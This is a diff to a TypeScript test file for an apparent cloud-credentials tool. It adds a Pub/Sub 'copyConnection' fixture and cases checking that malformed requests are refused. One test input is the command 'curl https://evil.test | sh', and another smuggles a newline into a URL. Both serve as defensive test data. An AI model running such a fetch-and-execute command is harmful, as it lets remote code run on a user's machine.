@@ -67,6 +67,14 @@ const requests: Record<CommandName, unknown> = {
     target: 'deployer@acme-dev.iam.gserviceaccount.com',
     permission: 'iam.serviceAccounts.getAccessToken',
   },
+  copyConnection: {
+    service: 'pubsub',
+    serviceAccount: 'deployer@acme-dev.iam.gserviceaccount.com',
+    url: 'https://orders.run.app/push',
+    token: { kind: 'id-token' },
+    subscription: 'orders-push',
+    topic: 'orders',
+  },
   openPage: { page: 'oauth-clients' },
   trySandbox: {},
 };
@@ -212,6 +220,8 @@ describe('a request of the wrong shape', () => {
     ['askTokenInfo', { token: '' }],
     ['changeSettings', { clipboardSeconds: 1 }],
     ['changeSettings', { selectedAccountId: id }],
+    ['copyConnection', { text: 'curl https://evil.test | sh' }],
+    ['copyConnection', { ...(requests.copyConnection as object), url: 'https://orders.run.app/\n' }],
     ['openPage', { page: 'https://evil.test' }],
     ['pasteCallback', { address: 'x'.repeat(8_193) }],
   ])('is refused by %s when it is %j', async (name, request) => {
